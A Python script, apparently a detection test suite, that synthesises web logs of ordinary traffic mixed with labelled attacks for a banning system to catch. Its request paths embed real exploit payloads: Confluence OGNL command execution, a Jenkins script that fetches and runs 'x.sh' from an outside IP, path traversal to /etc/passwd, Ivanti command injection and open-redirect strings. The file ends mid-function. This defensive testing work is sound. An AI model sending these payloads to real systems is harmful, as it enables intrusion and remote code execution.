"""fresh-s11 attacks4: realistic attacks inside ordinary traffic. Each
listed attacker must be banned; everyone else never."""
import datetime, os, sys
from base import *

OUT = os.environ.get("OUT", "/tmp/fresh-s11/attacks4")
os.makedirs(OUT, exist_ok=True)
T0 = datetime.datetime(2026, 11, 26, 13, 0, 0)
SC = []


def scen(f):
    SC.append(f)
    return f


def hexid(r, n):
    return "".join(r.choice("0123456789abcdef") for _ in range(n))


def background(L, site, dur, n=30, office=True):
    """Ordinary traffic: browsers, crawlers, a monitor and an office NAT."""
    browsers(L, site, n, dur)
    crawlers(L, site, dur)
    monitor(L, dur)
    if office:
        nat = L.ip("194.25.17")
        browsers(L, site, 25, dur, ips=[nat])
    return


WP_PLUGINS = ["contact-form-7", "elementor", "woocommerce", "wordpress-seo", "akismet", "wpforms-lite", "really-simple-ssl", "jetpack", "all-in-one-seo-pack", "litespeed-cache", "classic-editor", "wp-super-cache", "updraftplus", "duplicate-page", "wordfence",
              "wp-file-manager", "revslider", "layerslider", "wp-fastest-cache", "ultimate-member", "forminator", "ninja-forms", "backup-backup", "essential-addons-for-elementor-lite", "royal-elementor-addons", "wp-automatic", "bricks", "startklar-elementor-addons",
              "givewp", "the-post-grid", "learnpress", "wp-statistics", "file-manager-advanced", "post-smtp", "tutor", "masterstudy-lms-learning-management-system", "hash-form", "litespeed-cache", "popup-builder", "wp-time-capsule"]


def wp_site(host="www.example-verein.de"):
    posts = ["/%d/%02d/%s/" % (2026, m, s) for m, s in [(3, "jahreshauptversammlung"), (5, "sommerfest-2026"), (7, "neue-trainingszeiten"), (9, "jugendturnier"), (10, "vorstandswahl"), (11, "weihnachtsfeier")]]
    pages = ["/"] + posts + ["/verein/", "/kontakt/", "/mannschaften/", "/termine/", "/category/news/"]
    return Site(host, pages, ["/wp-content/themes/astra/assets/css/minified/main.min.css?ver=4.8.6", "/wp-includes/css/dist/block-library/style.min.css?ver=6.7.1"],
                ["/wp-includes/js/jquery/jquery.min.js?ver=3.7.1", "/wp-content/plugins/contact-form-7/includes/js/index.js?ver=6.0.1"],
                lambda p, r: ["/wp-content/uploads/2026/%02d/IMG_%04d-1024x683.jpg" % (r.randint(1, 11), r.randint(1000, 9999)) for _ in range(r.randint(1, 5))])


@scen
def wpscan_vp_aggressive():
    L = Log(T0, 201, "wp")
    s = wp_site()
    dur = 1200
    background(L, s, dur)
    r = L.rnd
    a = L.ip("5.188.62")
    ua = "WPScan v3.8.27 (https://wpscan.com/wordpress-security-scanner)"
    t = 300
    for p in ["/", "/wp-content/themes/astra/style.css", "/readme.html", "/wp-json/", "/xmlrpc.php", "/wp-cron.php", "/wp-content/uploads/", "/wp-content/debug.log", "/.user.ini"]:
        L.add(t, a, "GET", p, 200 if p not in ("/wp-content/debug.log", "/.user.ini") else 404, 8000, "-", ua)
        t += 0.1
    # --enumerate vp --plugins-detection aggressive: the readme.txt of every plugin
    # in its vulnerable-plugins list (~7,000); 5 threads, ~20 requests/s
    have = {"contact-form-7", "akismet", "wordpress-seo", "classic-editor"}
    slugs = WP_PLUGINS + ["%s-%s" % (r.choice(["wp", "easy", "simple", "ultimate", "advanced", "smart", "responsive", "custom"]), r.choice(["gallery", "slider", "forms", "backup", "seo", "popup", "booking", "events", "membership", "table", "map", "chat", "login", "cache", "faq"])) + ("-%d" % r.randint(1, 99) if r.random() < 0.6 else "") for _ in range(3500)]
    for sl in slugs:
        st = 200 if sl in have else 404
        L.add(t, a, "GET", "/wp-content/plugins/%s/readme.txt" % sl, st, 3000 if st == 200 else 548, "-", ua)
        t += r.expovariate(20.0)
    return L, "wpscan --enumerate vp --plugins-detection aggressive with its default UA, 5 threads (~20 readme.txt requests/s, ~3,500 plugins, almost all 404) on a club's WordPress with 55 visitors (25 behind an office NAT), crawlers and a monitor", [(a, "wpscan")]


@scen
def laravel_ignition_probes():
    L = Log(T0, 202, "laravel")
    s = app_site("app.example-booking.de", ["/", "/login", "/register", "/rooms", "/rooms/12", "/bookings", "/about"])
    dur = 1200
    background(L, s, dur)
    r = L.rnd
    keep = []
    # a Laravel-hunting botnet: each address tries a short list (androxgh0st style)
    for k in range(4):
        a = L.ip()
        keep.append((a, "Laravel debug/RCE probe"))
        ua = r.choice([CHROME, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36", "python-requests/2.31.0"])
        t = r.uniform(100, 1000)
        seq = [("GET", "/.env", 404), ("POST", "/", 405), ("GET", "/_ignition/health-check", 200), ("POST", "/_ignition/execute-solution", 500), ("GET", "/storage/logs/laravel.log", 404),
               ("GET", "/telescope/requests", 404), ("GET", "/_debugbar/open?max=20&offset=0", 404), ("GET", "/horizon/api/stats", 404), ("POST", "/_ignition/execute-solution", 500), ("GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404),
               ("GET", "/.env.backup", 404), ("GET", "/api/.env", 404)]
        for m, p, st in seq[:r.randint(6, 12)]:
            L.add(t, a, m, p, st, 700 if st != 200 else 50, "-", ua)
            t += r.uniform(0.3, 3)
    return L, "Laravel-hunting bots (4 addresses, androxgh0st-style): /.env, POST /, /_ignition/health-check (200 on this debug-mode app), POST /_ignition/execute-solution (CVE-2021-3129), laravel.log, telescope, debugbar, horizon, phpunit eval-stdin; 6-12 requests each; a booking app with 55 users", keep


@scen
def exchange_proxyshell():
    L = Log(T0, 203, "owa")
    s = Site("mail.example-kanzlei.de", ["/owa/", "/owa/#path=/mail", "/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fmail.example-kanzlei.de%2fowa%2f", "/ecp/"], ["/owa/prem/15.2.1544.4/resources/styles/fabric.color.theme.light.css"], ["/owa/prem/15.2.1544.4/scripts/boot.worldwide.0.mouse.js"], lambda p, r: [])
    dur = 1200
    background(L, s, dur, n=25)
    r = L.rnd
    # ActiveSync phones and Outlook clients
    for k in range(10):
        ip = L.ip()
        ua = r.choice(["Apple-iPhone15C2/2201.81", "Outlook-iOS-Android/1.0", "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17928; Pro)"])
        t = r.uniform(0, 60)
        while t < dur:
            if ua.startswith("Microsoft"):
                L.add(t, ip, "POST", "/mapi/emsmdb/?MailboxId=%s@example-kanzlei.de" % hexid(r, 8), 200, 4000, "-", ua)
                t += r.uniform(20, 60)
            else:
                L.add(t, ip, "POST", "/Microsoft-Server-ActiveSync?Cmd=Ping&User=user%d&DeviceId=%s&DeviceType=iPhone" % (k, hexid(r, 16).upper()), 200, 40, "-", ua)
                t += r.uniform(300, 480)
    a = L.ip("45.142.214")
    ua = "Mozilla/5.0 zgrab/0.x"
    t = 600
    seq = [("GET", "/autodiscover/autodiscover.json?@zdi/Powershell&Email=autodiscover/autodiscover.json%3F@zdi", 302),
           ("GET", "/autodiscover/autodiscover.json?@foo.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@foo.com", 200),
           ("POST", "/autodiscover/autodiscover.json?@foo.com/autodiscover/autodiscover.xml?=&Email=autodiscover/autodiscover.json%3F@foo.com", 200),
           ("GET", "/owa/auth/x.js", 500), ("POST", "/ecp/y.js", 500), ("GET", "/ecp/DDI/DDIService.svc/GetList", 401),
           ("GET", "/aspnet_client/system_web/%s.aspx" % hexid(r, 8), 404), ("GET", "/owa/auth/%s.aspx" % hexid(r, 6), 404),
           ("POST", "/autodiscover/autodiscover.json?a=a@foo.var/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBphZG1pbmlzdHJhdG9yQGV4Y2hhbmdlLmxhYlUJUy0xLTUtMjAtNTA%3D&Email=autodiscover/autodiscover.json%3Fa=a@foo.var", 200)]
    for m, p, st in seq:
        L.add(t, a, m, p, st, 400, "-", ua)
        t += r.uniform(0.5, 4)
    b = L.ip("194.26.29")
    t = 900
    for m, p, st in seq[:3] + [("GET", "/owa/auth/logon.aspx?url=https%3a%2f%2f1%2fecp%2f", 200)]:
        L.add(t, b, m, p, st, 400, "-", CHROME)
        t += r.uniform(2, 10)
    return L, "Exchange 2019 with OWA/ActiveSync/Outlook users: ProxyShell/ProxyNotShell/ProxyLogon probes (autodiscover.json?@..&Email=autodiscover/autodiscover.json%3F@, /owa/auth/x.js, /ecp/y.js, webshell .aspx) from two addresses, 9 and 4 requests", [(a, "ProxyShell scanner"), (b, "ProxyShell check with Chrome UA")]


@scen
def vpn_appliance_cves():
    L = Log(T0, 204, "vpn")
    s = Site("vpn.example-klinik.de", ["/remote/login?lang=de", "/remote/login", "/sslvpn/portal.html", "/remote/fortisslvpn"], ["/sslvpn/css/login.css"], ["/sslvpn/js/login.js", "/remote/fgt_lang?lang=de"], lambda p, r: ["/images/logo.png"])
    dur = 1800
    background(L, s, dur, n=24)
    r = L.rnd
    keep = []
    # FortiClient users connecting
    for k in range(20):
        ip = L.ip()
        t = r.uniform(0, dur)
        ua = "FortiSSLVPN/7.2.5 (Windows NT 10.0)"
        L.add(t, ip, "GET", "/remote/info", 200, 300, "-", ua)
        L.add(t + 0.2, ip, "POST", "/remote/logincheck", 200, 600, "-", ua)
        L.add(t + 5, ip, "GET", "/remote/fortisslvpn_xml?dual_stack=1", 200, 1200, "-", ua)
        L.add(t + 5.3, ip, "GET", "/remote/sslvpn-tunnel", 200, 0, "-", ua)
    probes = [
        ("GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", 200),
        ("GET", "/vpn/../vpns/cfg/smb.conf", 404),
        ("GET", "/oauth/idp/.well-known/openid-configuration", 404),
        ("GET", "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/", 404),
        ("GET", "/api/v1/totp/user-backup-code/../../license/keys-status/%3Bpython%20-c%20%27import%20socket%27", 404),
        ("GET", "/dana-cached/hc/HostCheckerInstaller.osx", 404),
        ("POST", "/ssl-vpn/hipreport.esp", 404),
        ("GET", "/global-protect/portal/css/login.css", 404),
        ("GET", "/remote/error?errmsg=ABABAB--%3E%3Cscript%3Ealert(1)%3C/script%3E", 200),
        ("POST", "/remote/hostcheck_validate", 405),
        ("GET", "/api/v2/cmdb/system/admin/admin", 404),
        ("GET", "/cgi-bin/webproc?getpage=../../../../etc/passwd", 404),
        ("GET", "/gwtest/formssso?event=start&target=%s" % ("A" * 48), 404),
    ]
    for k in range(3):
        a = L.ip()
        keep.append((a, "edge-appliance CVE scanner"))
        t = r.uniform(100, 1500)
        ua = r.choice(["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0 Safari/537.36", "curl/8.4.0"])
        for m, p, st in r.sample(probes, r.randint(5, 10)):
            L.add(t, a, m, p, st, r.randint(300, 3000), "-", ua)
            t += r.uniform(1, 20)
    return L, "FortiGate SSL-VPN portal with 20 FortiClient users and 24 browsers: 3 scanners (browser UA or curl) each sending 5-10 edge-appliance CVE probes (Fortinet fgt_lang traversal, Citrix smb.conf / CitrixBleed openid-configuration, Ivanti traversal and command injection, GlobalProtect hipreport, FortiOS admin API) over minutes", keep


@scen
def confluence_ognl():
    L = Log(T0, 205, "wiki")
    s = Site("wiki.example-engineering.com", ["/", "/display/ENG/Home", "/display/ENG/Runbooks", "/pages/viewpage.action?pageId=%d" % 884211, "/dosearchsite.action?cql=siteSearch+~+%22deploy%22", "/display/OPS/On-call"],
             ["/s/d41d8cd98f00b204e9800998ecf8427e-CDN/-1s3ns1/8703/h/_/download/batch/_super/batch.css"], ["/s/d41d8cd98f00b204e9800998ecf8427e-CDN/-1s3ns1/8703/h/_/download/batch/_super/batch.js"], lambda p, r: ["/images/icons/profilepics/default.svg"])
    dur = 1200
    background(L, s, dur)
    r = L.rnd
    keep = []
    seqs = [
        [("GET", "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/", 302)],
        [("POST", "/template/aui/text-inline.vm", 200), ("POST", "/template/aui/text-inline.vm", 200)],
        [("GET", "/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false", 200), ("GET", "/setup/setupadministrator.action", 200), ("POST", "/setup/setupadministrator.action", 302)],
        [("GET", "/json/setup-restore.action?synchronous=true", 403), ("POST", "/json/setup-restore.action?synchronous=true", 403)],
        [("GET", "/pages/createpage-entervariables.action?SpaceKey=x", 200), ("POST", "/pages/doenterpagevariables.action", 200)],
    ]
    for k, seq in enumerate(seqs):
        a = L.ip()
        keep.append((a, "Confluence exploit"))
        t = r.uniform(100, 1100)
        ua = r.choice([CHROME, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36", "python-requests/2.28.1"])
        for m, p, st in seq:
            L.add(t, a, m, p, st, 900, "-", ua)
            t += r.uniform(0.5, 3)
    return L, "Confluence Data Center used by an engineering team: 5 exploiters of 1-3 requests each: CVE-2022-26134 OGNL in the path, CVE-2023-22527 text-inline.vm POSTs, CVE-2023-22515 setupComplete=false then setupadministrator, CVE-2023-22518 setup-restore, CVE-2021-26084 doenterpagevariables", keep


@scen
def jenkins_script_console():
    L = Log(T0, 206, "jenkins")
    s = Site("ci.example-startup.io", ["/", "/job/backend/", "/job/backend/lastBuild/console", "/view/all/builds", "/manage/"], ["/static/5c1a2b3d/jsbundles/styles.css"], ["/static/5c1a2b3d/jsbundles/app.js"], lambda p, r: [])
    dur = 1200
    background(L, s, dur, n=22)
    r = L.rnd
    keep = []
    a = L.ip("103.145.13")
    keep.append((a, "Jenkins script console / CLI exploit"))
    t = 400
    ua = "python-requests/2.32.3"
    for m, p, st in [("GET", "/login", 200), ("GET", "/script", 403), ("POST", "/scriptText", 403), ("GET", "/jenkins/script", 404), ("GET", "/manage/script", 403), ("POST", "/computer/(master)/scriptText", 403), ("POST", "/computer/(built-in)/scriptText", 403),
                     ("GET", "/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?sandbox=true&value=public%20class%20x%20%7Bpublic%20x()%7B%22curl%20http%3A%2F%2F45.9.148.1%2Fx.sh%7Csh%22.execute()%7D%7D", 200),
                     ("POST", "/cli?remoting=false", 200), ("POST", "/cli?remoting=false", 200), ("GET", "/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition/checkScriptCompile?value=%40GrabConfig(disableChecksums%3Dtrue)%0a%40GrabResolver(name%3D%27x%27%2C%20root%3D%27http%3A%2F%2F45.9.148.1%2F%27)%0a%40Grab(group%3D%27x%27%2C%20module%3D%27x%27%2C%20version%3D%271%27)%0aimport%20x%3B", 200)]:
        L.add(t, a, m, p, st, 800, "-", ua)
        t += r.uniform(0.3, 2)
    # a second one guesses the admin password at the Jenkins login form
    b = L.ip("141.98.11")
    keep.append((b, "Jenkins login guessing"))
    t = 500
    for i in range(60):
        L.add(t, b, "POST", "/j_spring_security_check", 302, 0, "https://ci.example-startup.io/login", CHROME)
        L.add(t + 0.2, b, "GET", "/loginError", 401, 2000, "https://ci.example-startup.io/login", CHROME)
        t += r.uniform(4, 9)
    return L, "Jenkins reachable from the internet: one address tries the script console (/script, /scriptText, (master)/(built-in) scriptText), the script-security checkScript and checkScriptCompile @Grab RCEs and the CLI (CVE-2024-23897), 11 requests; another guesses the admin password at /j_spring_security_check (302 to /loginError 401) every 4-9 s; 47 developers browsing", keep


@scen
def slow_backup_hunter():
    L = Log(T0.replace(hour=6), 207, "slow")
    s = wp_site("www.example-handwerk.de")
    dur = 4 * 3600
    background(L, s, dur, n=40)
    r = L.rnd
    a = L.ip("185.220.100")
    ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
    host = "example-handwerk"
    paths = ["/.DS_Store", "/.svn/entries", "/.svn/wc.db", "/.git/config", "/.git/HEAD", "/backup.zip", "/backup.tar.gz", "/www.zip", "/site.zip", "/%s.zip" % host, "/%s.de.zip" % host, "/%s.tar.gz" % host,
             "/wwwroot.rar", "/html.zip", "/public_html.zip", "/db.sql", "/dump.sql", "/database.sql", "/%s.sql" % host, "/backup.sql", "/wp-config.php.bak", "/wp-config.php~", "/wp-config.php.save", "/wp-config.old",
             "/.wp-config.php.swp", "/config.php.bak", "/.env.bak", "/.env.old", "/old.zip", "/new.zip", "/test.zip", "/web.zip", "/2025.zip", "/2026.zip", "/backup/backup.zip", "/backups/", "/bak/", "/_backup/",
             "/wp-content/backup-db/", "/wp-content/uploads/backup.zip", "/wp-content/updraft/", "/wp-content/ai1wm-backups/", "/wp-content/backups-dup-lite/", "/.idea/workspace.xml", "/.vscode/sftp.json", "/sftp-config.json",
             "/.ftpconfig", "/deploy.sh", "/composer.lock", "/.htpasswd", "/phpinfo.php", "/info.php", "/.bash_history", "/id_rsa", "/.ssh/id_rsa", "/server.key", "/localhost.sql", "/mysql.sql", "/data.sql", "/users.sql"]
    t = 120
    i = 0
    while t < dur and i < 220:
        p = paths[i % len(paths)]
        if i >= len(paths):
            p = p.replace(".zip", ".7z").replace(".sql", ".sql.gz").replace(".bak", ".orig")
        L.add(t, a, "GET", p, 404 if p != "/composer.lock" else 403, 548, "-", ua)
        t += r.uniform(50, 75)
        i += 1
    return L, "A slow backup/secret hunter with a Chrome UA: one request every 50-75 s for 3.7 hours (~220 paths: .DS_Store, .svn, .git, site/domain .zip/.tar.gz/.sql, wp-config backups, backup plugin folders, IDE/SFTP configs, keys), all 404/403, on a craftsman's WordPress with 65 visitors over 4 h", [(a, "slow backup hunter")]


@scen
def stuffing_slash24_slow():
    L = Log(T0, 208, "stuff")
    s = app_site("www.example-streaming.tv", ["/", "/login", "/browse", "/title/8812", "/title/9310", "/account", "/help"])
    dur = 1500
    background(L, s, dur, n=35)
    r = L.rnd
    keep = []
    # real users signing in (some mistype)
    for k in range(30):
        ip = L.ip()
        t = r.uniform(0, dur)
        ua = r.choice(UAS)
        page_view(L, s, t, ip, ua, "/login", "-", set())
        for j in range(1 if r.random() < 0.85 else 2):
            t += r.uniform(5, 20)
            L.add(t, ip, "POST", "/api/auth/login", 401, 90, s.url("/login"), ua)
        L.add(t + r.uniform(5, 15), ip, "POST", "/api/auth/login", 200, 900, s.url("/login"), ua)
    # 30 addresses of one rented /24, each one attempt every ~10 s for 20 minutes
    for k in range(30):
        a = L.ip("193.233.133")
        keep.append((a, "credential stuffing /24"))
        ua = r.choice(UAS)
        t = r.uniform(100, 110)
        while t < 1300:
            L.add(t, a, "POST", "/api/auth/login", 401 if r.random() < 0.995 else 200, 90, s.url("/login"), ua)
            t += r.uniform(8.5, 11.5)
    return L, "Credential stuffing on a streaming service's JSON login: 30 addresses of one /24 each POST /api/auth/login (401) every ~10 s for 20 min (3/s together; each address 120 attempts), with a browser UA and Referer; 30 real users signing in (15 % mistype once) and 60 browsing", keep


@scen
def owa_password_spray():
    L = Log(T0, 209, "spray")
    s = Site("mail.example-stadtwerke.de", ["/owa/", "/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fmail.example-stadtwerke.de%2fowa%2f"], ["/owa/auth/15.2.1544.4/themes/resources/logon.css"], ["/owa/auth/15.2.1544.4/scripts/premium/flogon.js"], lambda p, r: ["/owa/auth/15.2.1544.4/themes/resources/favicon.ico"])
    dur = 3600
    background(L, s, dur, n=30)
    r = L.rnd
    keep = []
    # real users sign in to OWA (302 to /owa/ on success; reason=2 on a typo)
    for k in range(25):
        ip = L.ip()
        t = r.uniform(0, dur)
        ua = r.choice(UAS)
        if r.random() < 0.2:
            L.add(t, ip, "POST", "/owa/auth.owa", 302, 0, s.url("/owa/auth/logon.aspx"), ua)
            L.add(t + 0.2, ip, "GET", "/owa/auth/logon.aspx?replaceCurrent=1&reason=2&url=https%3a%2f%2fmail.example-stadtwerke.de%2fowa%2f", 200, 9000, s.url("/owa/auth/logon.aspx"), ua)
            t += 10
        L.add(t, ip, "POST", "/owa/auth.owa", 302, 0, s.url("/owa/auth/logon.aspx"), ua)
        L.add(t + 0.3, ip, "GET", "/owa/", 200, 60000, s.url("/owa/auth/logon.aspx"), ua)
    # the sprayer: "Winter2026!" against 400 usernames from a list, from 2 VPS
    # addresses alternately, one attempt per ~8 s each, not following redirects
    for pre in ["45.153.160", "80.94.95"]:
        a = L.ip(pre)
        keep.append((a, "password spray"))
        t = r.uniform(200, 210)
        for i in range(200):
            L.add(t, a, "POST", "/owa/auth.owa", 302, 0, "https://mail.example-stadtwerke.de/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fmail.example-stadtwerke.de%2fowa%2f", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36")
            t += r.uniform(6, 10)
    return L, "Password spraying OWA: one password against 400 usernames from 2 VPS addresses (200 POST /owa/auth.owa each, 302 whatever the result, redirects not followed, one per 6-10 s); 25 real users signing in (20 % mistype: 302 then logon.aspx?reason=2) and 55 browsing", keep


@scen
def magento_carding_pageviews():
    L = Log(T0, 210, "card")
    s = shop_site("www.example-tee.de")
    dur = 3600
    background(L, s, dur, n=35)
    r = L.rnd
    keep = []
    # real buyers: guest cart, shipping, payment (a few declines)
    for k in range(15):
        ip = L.ip()
        ua = r.choice(UAS)
        t = r.uniform(0, dur - 300)
        cart = hexid(r, 32)
        page_view(L, s, t, ip, ua, "/checkout/", s.url("/checkout/cart/"), set())
        L.add(t + 20, ip, "POST", "/rest/de_de/V1/guest-carts/%s/estimate-shipping-methods" % cart, 200, 700, s.url("/checkout/"), ua)
        L.add(t + 40, ip, "POST", "/rest/de_de/V1/guest-carts/%s/shipping-information" % cart, 200, 4000, s.url("/checkout/"), ua)
        for j in range(1 if r.random() < 0.8 else 2):
            L.add(t + 90 + j * 40, ip, "POST", "/rest/de_de/V1/guest-carts/%s/payment-information" % cart, 200 if j == 0 and r.random() < 0.9 else 400, 300, s.url("/checkout/"), ua)
    # a card tester: loads the checkout page, then creates a cart, adds the cheapest
    # product, sets shipping and pays, one card per ~40 s, for an hour
    a = L.ip("91.92.251")
    keep.append((a, "card testing via Magento guest carts"))
    ua = CHROME
    t = 300
    while t < dur - 60:
        cart = hexid(r, 32)
        L.add(t, a, "GET", "/checkout/", 200, 60000, s.url("/checkout/cart/"), ua)
        L.add(t + 1, a, "POST", "/rest/de_de/V1/guest-carts", 200, 40, s.url("/checkout/"), ua)
        L.add(t + 2, a, "POST", "/rest/de_de/V1/guest-carts/%s/items" % cart, 200, 500, s.url("/checkout/"), ua)
        L.add(t + 3, a, "POST", "/rest/de_de/V1/guest-carts/%s/shipping-information" % cart, 200, 4000, s.url("/checkout/"), ua)
        L.add(t + 5, a, "POST", "/rest/de_de/V1/guest-carts/%s/payment-information" % cart, 400 if r.random() < 0.93 else 200, 300, s.url("/checkout/"), ua)
        t += r.uniform(30, 50)
    return L, "Card testing on a Magento 2 shop through the guest-cart REST API with a checkout page view before each card: cart, item, shipping, payment-information (400 declined, 7 % accepted), one card every 30-50 s for an hour (~80 cards); 15 real buyers (some declines) and 60 browsing", keep


@scen
def comment_spam_bot():
    L = Log(T0, 211, "spam")
    s = wp_site("www.example-kochblog.de")
    dur = 3600
    background(L, s, dur, n=35)
    r = L.rnd
    keep = []
    posts = s.pages[1:7] + ["/2025/%02d/rezept-%d/" % (r.randint(1, 12), i) for i in range(60)]
    # readers commenting
    for k in range(6):
        ip = L.ip()
        ua = r.choice(UAS)
        t = r.uniform(0, dur)
        p = r.choice(posts)
        page_view(L, s, t, ip, ua, p, "-", set())
        L.add(t + r.uniform(60, 300), ip, "POST", "/wp-comments-post.php", 302, 0, s.url(p), ua)
    # XRumer-style comment spammer: fetch a post, post a comment, next post
    for pre in ["176.111.174", "45.134.26"]:
        a = L.ip(pre)
        keep.append((a, "comment spam"))
        ua = r.choice(UAS[:3])
        t = r.uniform(100, 400)
        for p in r.sample(posts, 50):
            L.add(t, a, "GET", p, 200, 50000, "-", ua)
            t += r.uniform(2, 6)
            st = r.choice([302, 302, 302, 409, 429, 403])
            L.add(t, a, "POST", "/wp-comments-post.php", st, 0 if st == 302 else 2400, s.url(p), ua)
            t += r.uniform(10, 60)
    return L, "Comment spam bots on a food blog: 2 addresses each fetch a post then POST /wp-comments-post.php (302 held for moderation, 409 duplicate, 429 too quickly, 403) for 50 posts, one every 12-66 s; 6 real commenters, 60 readers", keep


@scen
def pingback_reflection():
    L = Log(T0, 212, "pingback")
    s = blog_site("www.example-target.com")
    dur = 900
    background(L, s, dur, n=30)
    r = L.rnd
    keep = []
    # a pingback reflection DDoS: the attacker asks ~1,500 WordPress blogs to verify a
    # pingback from a random URL on the target; each blog fetches it 1-3 times
    for k in range(1500):
        ip = L.ip()
        blog = "%s%d.%s" % (r.choice(["blog", "news", "my", "the", "wp", "ferien", "rezepte", "photo"]), r.randint(1, 9999), r.choice(["com", "de", "net", "org", "fr", "co.uk"]))
        ver = r.choice(["4.9.26", "5.8.10", "6.2.6", "6.4.5", "6.5.5", "6.7.1"])
        ua = "WordPress/%s; https://%s; verifying pingback from 45.%d.%d.%d" % (ver, blog, r.randint(1, 250), r.randint(1, 250), r.randint(1, 250))
        t = 300 + r.uniform(0, 240)
        n = r.randint(1, 3)
        if k < 60:
            keep.append((ip, "pingback reflector"))
            n = r.randint(3, 6)
        for j in range(n):
            L.add(t, ip, "GET", "/?%d=%d" % (r.randint(100000, 9999999), r.randint(1000, 99999)), 200, 42000, "-", ua)
            t += r.uniform(0.5, 20)
    return L, "WordPress pingback reflection DDoS on a blog: ~1,500 WordPress sites (UA 'WordPress/x; https://blog; verifying pingback from <attacker>') fetch a random cache-busting URL 1-3 times within 4 minutes (~20 requests/s together); listed are the 60 reflectors that sent 3-6 each; 55 readers", keep


@scen
def smuggling_and_odd_methods():
    L = Log(T0, 213, "smuggle")
    s = app_site("shop-api.example-moebel.de", ["/", "/products", "/products/881", "/cart", "/account"])
    dur = 1200
    background(L, s, dur)
    r = L.rnd
    a = L.ip("167.94.138")
    # HTTP Request Smuggler / smuggler.py: POST with conflicting CL/TE variants (the
    # body's smuggled prefix arrives as the next "request"), then odd methods
    t = 400
    ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36"
    for i in range(40):
        L.add(t, a, "POST", "/", r.choice([200, 400, 400, 501]), 150, "-", ua)
        if r.random() < 0.5:
            L.add(t + 0.01, a, None, r.choice(["GPOST / HTTP/1.1", "0", "G", "x=1", "GET /admin HTTP/1.1", "\\x00\\x00"]), 400, 150, "-", "-")
        if r.random() < 0.3:
            L.add(t + 5, a, None, "-", 408, 0, "-", "-")
        t += r.uniform(0.5, 3)
    for m in ["TRACE", "TRACK", "DEBUG", "PROPFIND", "CONNECT", "FOO", "PUT", "DELETE", "OPTIONS"]:
        L.add(t, a, m, "/" if m != "CONNECT" else "example.org:443", 405 if m != "FOO" else 400, 150, "-", ua)
        t += 0.4
    return L, "HTTP request smuggling scan (smuggler.py / Burp HTTP Request Smuggler style): 40 POST / with CL/TE variants, half followed by the smuggled remainder parsed as a garbage request (400: 'GPOST / HTTP/1.1', '0', 'GET /admin HTTP/1.1'), 408 timeouts, then TRACE/TRACK/DEBUG/PROPFIND/CONNECT/FOO; 55 users", [(a, "smuggling scanner")]


@scen
def open_redirect_fuzz():
    L = Log(T0, 214, "redir")
    s = app_site("www.example-reisen.de", ["/", "/login", "/angebote", "/angebote/kreta", "/konto", "/logout"])
    dur = 1200
    background(L, s, dur)
    r = L.rnd
    keep = []
    # real users: login with next= back to the page they came from
    for k in range(15):
        ip = L.ip()
        ua = r.choice(UAS)
        t = r.uniform(0, dur)
        L.add(t, ip, "GET", "/login?next=%2Fangebote%2Fkreta", 200, 9000, s.url("/angebote/kreta"), ua)
        L.add(t + 10, ip, "POST", "/login?next=%2Fangebote%2Fkreta", 302, 0, s.url("/login?next=%2Fangebote%2Fkreta"), ua)
        L.add(t + 10.3, ip, "GET", "/angebote/kreta", 200, 30000, s.url("/login"), ua)
    a = L.ip("138.199.60")
    keep.append((a, "open redirect fuzzer"))
    payloads = ["//evil.com", "https://evil.com", "/%2F%2Fevil.com", "/%5Cevil.com", "//evil%E3%80%82com", "https:evil.com", "\\/\\/evil.com", "/\\evil.com", "//google.com%2F%2E%2E", "https://example-reisen.de.evil.com", "https://evil.com@example-reisen.de",
                "%2F%2F%5Cevil.com", "javascript:alert(1)", "//%09/evil.com", "/%0D/evil.com", "///evil.com", "////evil.com/%2e%2e", "http://0x7f000001", "https://evil.com%23.example-reisen.de", "%68%74%74%70%73%3a%2f%2fevil.com"]
    params = ["next", "url", "redirect", "redirect_uri", "return", "returnTo", "return_url", "continue", "dest", "destination", "goto", "target", "r", "u", "forward", "callback", "checkout_url", "redir"]
    t = 500
    ua = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
    for path in ["/login", "/logout", "/", "/konto", "/redirect", "/out"]:
        for pm in params:
            for pl in r.sample(payloads, 4):
                st = 200 if path != "/redirect" and path != "/out" else 404
                L.add(t, a, "GET", "%s?%s=%s" % (path, pm, pl), st, 9000, "-", ua)
                t += r.expovariate(6.0)
